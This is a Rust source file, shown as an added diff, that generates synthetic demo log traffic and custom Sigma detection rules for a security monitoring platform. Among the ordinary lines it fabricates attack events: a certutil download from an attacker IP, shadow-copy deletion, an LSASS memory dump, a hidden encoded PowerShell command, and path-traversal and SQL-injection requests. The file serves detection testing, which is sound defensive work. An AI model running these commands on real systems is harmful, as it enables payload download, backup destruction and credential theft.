@@ -1,0 +1,393 @@
+//! The demo province's log traffic: Linux hosts' sshd/sudo/cron lines, Windows hosts' Sysmon
+//! process events and web servers' access lines, most of them ordinary, some of them attacks
+//! that the bundled SigmaHQ rules (and two rules written for the province, one a correlation)
+//! detect. Everything goes through the real pipeline — the same path as syslog or the ingest
+//! API — so the alerts, events and rules pages show what the platform does.
+
+use std::sync::Arc;
+use std::time::Duration;
+
+use canhgac_domain::entity::EntityKind;
+use canhgac_domain::time::now_ms;
+use canhgac_domain::Scope;
+use canhgac_server::monitor::{Body, Monitor, Raw};
+use canhgac_store::{Actor, ListQuery, Store};
+use serde_json::json;
+
+use crate::Dice;
+
+/// Rules written for the province (Vietnamese titles), loaded as custom rules.
+pub const PROVINCE_RULES: &[(&str, &str)] = &[
+    (
+        "lai_chau_ssh_root.yml",
+        "title: Đăng nhập SSH bằng tài khoản root thành công\n\
+id: 4c1a1c40-0000-4000-8000-00000000a001\n\
+status: stable\n\
+description: Tài khoản root đăng nhập SSH bằng mật khẩu; theo quy định của Sở chỉ được dùng khoá và tài khoản cá nhân.\n\
+author: Sở TTTT Lai Châu\n\
+level: high\n\
+tags: [attack.initial-access, attack.t1078.003]\n\
+logsource: {product: linux, service: auth}\n\
+detection:\n  selection:\n    user: root\n    outcome: success\n    auth_method: password\n  condition: selection\n",
+    ),
+    (
+        "lai_chau_ssh_bruteforce.yml",
+        "title: Đăng nhập SSH thất bại\n\
+id: 4c1a1c40-0000-4000-8000-00000000a002\n\
+name: ssh_failed_login\n\
+status: stable\n\
+level: low\n\
+logsource: {product: linux, service: auth}\n\
+detection:\n  selection:\n    outcome: failure\n  condition: selection\n\
+---\n\
+title: Dò mật khẩu SSH (từ 6 lần thất bại trong 5 phút từ một địa chỉ)\n\
+id: 4c1a1c40-0000-4000-8000-00000000a003\n\
+status: stable\n\
+description: Một địa chỉ thử mật khẩu SSH nhiều lần liên tiếp; đối chiếu với danh sách IP Botnet.\n\
+author: Sở TTTT Lai Châu\n\
+level: high\n\
+tags: [attack.credential-access, attack.t1110.001]\n\
+correlation:\n  type: event_count\n  rules: [ssh_failed_login]\n  group-by: [src_ip, host]\n  timespan: 5m\n  condition: {gte: 6}\n",
+    ),
+];
+
+/// Loads the province's rules once (they are kept if an administrator changes them).
+pub async fn load_rules(store: &Store, monitor: &Monitor) -> anyhow::Result<()> {
+    let actor = Actor::system("demo");
+    for (name, yaml) in PROVINCE_RULES {
+        let metas = canhgac_server::monitor::validate_custom_rule(
+            name,
+            yaml,
+            &monitor.config().placeholders,
+            None,
+        )
+        .map_err(|p| anyhow::anyhow!("demo rule {name}: {}", p.join("; ")))?;
+        for (i, m) in metas.into_iter().enumerate() {
+            if store
+                .list_rules(&canhgac_store::RuleFilter {
+                    q: Some(m.rule_key.clone()),
+                    ..Default::default()
+                })
+                .await?
+                .1
+                > 0
+            {
+                continue;
+            }
+            let mut m = m;
+            if i > 0 {
+                m.yaml = None;
+            }
+            store.add_custom_rule(&actor, &m).await?;
+        }
+    }
+    monitor.reload().await.map_err(anyhow::Error::msg)?;
+    Ok(())
+}
+
+/// A host as the generator needs it.
+#[derive(Clone)]
+pub struct DemoHost {
+    name: String,
+    ip: String,
+    windows: bool,
+    web: bool,
+}
+
+/// The registry's servers and workstations, split by what they run.
+pub async fn hosts(store: &Store) -> anyhow::Result<Vec<DemoHost>> {
+    let page = store
+        .list(
+            EntityKind::Host,
+            &Scope::All,
+            &ListQuery {
+                limit: Some(5000),
+                ..Default::default()
+            },
+        )
+        .await?;
+    Ok(page
+        .items
+        .iter()
+        .filter(|h| h["kind"] != "network")
+        .map(|h| {
+            let name = h["hostname"].as_str().unwrap_or_default().to_string();
+            let os = h["os"].as_str().unwrap_or_default();
+            DemoHost {
+                web: name.contains("web") || name.contains("portal") || name.contains("cong"),
+                windows: os.contains("Windows"),
+                ip: h["ips"]
+                    .as_str()
+                    .unwrap_or_default()
+                    .split(',')
+                    .next()
+                    .unwrap_or_default()
+                    .trim()
+                    .to_string(),
+                name,
+            }
+        })
+        .collect())
+}
+
+const ATTACKERS: &[&str] = &[
+    "45.155.205.233",
+    "185.220.101.47",
+    "91.240.118.172",
+    "103.151.125.9",
+    "194.26.29.113",
+    "222.186.42.7",
+];
+const USERS: &[&str] = &[
+    "admin",
+    "nguyenvana",
+    "tranthib",
+    "oracle",
+    "test",
+    "ubuntu",
+];
+
+fn vn(ms: i64) -> Option<chrono::DateTime<chrono::FixedOffset>> {
+    use chrono::TimeZone;
+    canhgac_domain::time::vn_offset()
+        .timestamp_millis_opt(ms)
+        .single()
+}
+
+/// RFC 3164 timestamps are local time: Asia/Ho_Chi_Minh.
+fn syslog_time(ms: i64) -> String {
+    vn(ms)
+        .map(|t| t.format("%b %e %H:%M:%S").to_string())
+        .unwrap_or_default()
+}
+
+/// Apache/Nginx access log time.
+fn access_time(ms: i64) -> String {
+    vn(ms)
+        .map(|t| t.format("%d/%b/%Y:%H:%M:%S %z").to_string())
+        .unwrap_or_default()
+}
+
+/// Sysmon's UtcTime.
+fn utc(ms: i64) -> String {
+    use chrono::TimeZone;
+    chrono::Utc
+        .timestamp_millis_opt(ms)
+        .single()
+        .map(|t| t.format("%Y-%m-%d %H:%M:%S%.3f").to_string())
+        .unwrap_or_default()
+}
+
+/// One burst of traffic at `at`: a handful of records, now and then an attack.
+pub fn burst(dice: &mut Dice, hosts: &[DemoHost], at: i64) -> Vec<Raw> {
+    let mut out = Vec::new();
+    if hosts.is_empty() {
+        return out;
+    }
+    let linux: Vec<&DemoHost> = hosts.iter().filter(|h| !h.windows).collect();
+    let windows: Vec<&DemoHost> = hosts.iter().filter(|h| h.windows).collect();
+    let web: Vec<&DemoHost> = linux.iter().copied().filter(|h| h.web).collect();
+    let line = |h: &DemoHost, app: &str, pid: usize, msg: String| {
+        let mut r = Raw::new(
+            "udp",
+            h.ip.parse().ok(),
+            Body::Line(format!(
+                "<38>{} {} {app}[{pid}]: {msg}",
+                syslog_time(at),
+                h.name
+            )),
+        );
+        r.received_at = at;
+        r
+    };
+    let sysmon = |h: &DemoHost, image: &str, cmd: &str, parent: &str, original: &str| {
+        let mut r = Raw::new(
+            "http",
+            h.ip.parse().ok(),
+            Body::Json(
+                json!({
+                    "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
+                    "Provider_Name": "Microsoft-Windows-Sysmon", "Computer": h.name,
+                    "UtcTime": utc(at), "Image": image, "CommandLine": cmd,
+                    "ParentImage": parent, "OriginalFileName": original,
+                    "User": format!("{}\\{}", h.name.to_uppercase(), "nguyenvana"),
+                    "IntegrityLevel": "High", "CurrentDirectory": "C:\\Windows\\system32\\",
+                })
+                .to_string(),
+            ),
+        );
+        r.received_at = at;
+        r
+    };
+    // Ordinary traffic.
+    for _ in 0..(2 + dice.below(4)) {
+        match dice.below(5) {
+            0 | 1 if !linux.is_empty() => {
+                let h = *dice.pick(&linux);
+                let msg = match dice.below(3) {
+                    0 => format!("Accepted publickey for {} from 10.{}.{}.{} port {} ssh2: ED25519 SHA256:kQ3v", dice.pick(USERS), 20 + dice.below(20), dice.below(255), 1 + dice.below(254), 40000 + dice.below(20000)),
+                    1 => "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)".to_string(),
+                    _ => format!("pam_unix(sudo:session): session opened for user root(uid=0) by {}(uid=1000)", dice.pick(USERS)),
+                };
+                let app = if msg.starts_with("Accepted") {
+                    "sshd"
+                } else if msg.contains("cron") {
+                    "CRON"
+                } else {
+                    "sudo"
+                };
+                out.push(line(h, app, 1000 + dice.below(30000), msg));
+            }
+            2 | 3 if !windows.is_empty() => {
+                let h = *dice.pick(&windows);
+                let (img, cmd, parent, orig) = *dice.pick(&[
+                    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe"),
+                    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "C:\\Windows\\System32\\services.exe", "svchost.exe"),
+                    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"D:\\VanBan\\CongVan_737.docx\"", "C:\\Windows\\explorer.exe", "WinWord.exe"),
+                ]);
+                out.push(sysmon(h, img, cmd, parent, orig));
+            }
+            _ if !web.is_empty() => {
+                let h = *dice.pick(&web);
+                let path = *dice.pick(&[
+                    "/",
+                    "/tin-tuc/thong-bao-lich-nghi-le",
+                    "/van-ban/737-STTTT-BCVTCNTT.pdf",
+                    "/lien-he",
+                    "/static/css/site.css",
+                ]);
+                let mut r = Raw::new("udp", h.ip.parse().ok(), Body::Line(format!(
+                    "<190>{} {} nginx: 113.{}.{}.{} - - [{}] \"GET {path} HTTP/1.1\" 200 {} \"-\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\"",
+                    syslog_time(at), h.name, 160 + dice.below(30), dice.below(255), 1 + dice.below(254),
+                    access_time(at),
+                    500 + dice.below(40000)
+                )));
+                r.received_at = at;
+                // The access line itself (not the syslog wrapper) is what web rules read.
+                if let Body::Line(l) = &mut r.body {
+                    if let Some(i) = l.find("nginx: ") {
+                        *l = l[i + 7..].to_string();
+                    }
+                }
+                out.push(r);
+            }
+            _ => {}
+        }
+    }
+    // Now and then, an attack.
+    match dice.below(12) {
+        0 | 1 if !linux.is_empty() => {
+            // Password guessing from a listed address: the correlation rule fires at six.
+            let h = *dice.pick(&linux);
+            let src = *dice.pick(ATTACKERS);
+            for _ in 0..(4 + dice.below(5)) {
+                let user = *dice.pick(USERS);
+                out.push(line(
+                    h,
+                    "sshd",
+                    2000 + dice.below(9000),
+                    format!(
+                        "Failed password for invalid user {user} from {src} port {} ssh2",
+                        30000 + dice.below(30000)
+                    ),
+                ));
+            }
+        }
+        2 if !linux.is_empty() => {
+            let h = *dice.pick(&linux);
+            out.push(line(
+                h,
+                "sshd",
+                2222,
+                format!(
+                    "Accepted password for root from {} port {} ssh2",
+                    dice.pick(ATTACKERS),
+                    30000 + dice.below(30000)
+                ),
+            ));
+        }
+        3 if !windows.is_empty() => {
+            let h = *dice.pick(&windows);
+            let ip = dice.pick(ATTACKERS);
+            out.push(sysmon(h, "C:\\Windows\\System32\\certutil.exe", &format!("certutil.exe -urlcache -split -f http://{ip}/update.exe C:\\Users\\Public\\update.exe"), "C:\\Windows\\System32\\cmd.exe", "CertUtil.exe"));
+        }
+        4 if !windows.is_empty() => {
+            let h = *dice.pick(&windows);
+            out.push(sysmon(
+                h,
+                "C:\\Windows\\System32\\vssadmin.exe",
+                "vssadmin.exe delete shadows /all /quiet",
+                "C:\\Windows\\System32\\cmd.exe",
+                "VSSADMIN.EXE",
+            ));
+        }
+        5 if !windows.is_empty() => {
+            let h = *dice.pick(&windows);
+            out.push(sysmon(h, "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "RUNDLL32.EXE"));
+        }
+        6 if !windows.is_empty() => {
+            let h = *dice.pick(&windows);
+            out.push(sysmon(h, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "C:\\Windows\\System32\\cmd.exe", "PowerShell.EXE"));
+        }
+        7 if !web.is_empty() => {
+            let h = *dice.pick(&web);
+            let attack = *dice.pick(&[
+                "/index.php?page=../../../../etc/passwd",
+                "/tin-tuc?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
+                "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
+                "/wp-login.php",
+            ]);
+            let mut r = Raw::new("udp", h.ip.parse().ok(), Body::Line(format!(
+                "{} - - [{}] \"GET {attack} HTTP/1.1\" 404 153 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"",
+                dice.pick(ATTACKERS),
+                access_time(at),
+            )));
+            r.received_at = at;
+            out.push(r);
+        }
+        _ => {}
+    }
+    out
+}
+
+/// A few hours of history at start-up, so the pages are not empty.
+pub async fn backfill(store: &Store, monitor: &Monitor, hours: i64) -> anyhow::Result<u64> {
+    let hs = hosts(store).await?;
+    let mut dice = Dice::new(0x1a1c_4a05);
+    let now = now_ms();
+    let mut at = now - hours * 3_600_000;
+    let mut batch = Vec::new();
+    let mut stored = 0;
+    while at < now {
+        batch.extend(burst(&mut dice, &hs, at));
+        at += 40_000 + dice.below(80_000) as i64;
+        if batch.len() >= 500 {
+            stored += monitor
+                .ingest(std::mem::take(&mut batch))
+                .await
+                .map_err(anyhow::Error::msg)?
+                .stored;
+        }
+    }
+    if !batch.is_empty() {
+        stored += monitor
+            .ingest(batch)
+            .await
+            .map_err(anyhow::Error::msg)?
+            .stored;
+    }
+    Ok(stored)
+}
+
+/// Live traffic for as long as the demo runs.
+pub async fn live(store: Store, monitor: Arc<Monitor>, every: Duration) {
+    let mut dice = Dice::new(now_ms() as u64);
+    let Ok(hs) = hosts(&store).await else { return };
+    loop {
+        tokio::time::sleep(every).await;
+        let batch = burst(&mut dice, &hs, now_ms());
+        if !batch.is_empty() && !monitor.submit(batch).await {
+            return;
+        }
+    }
+}
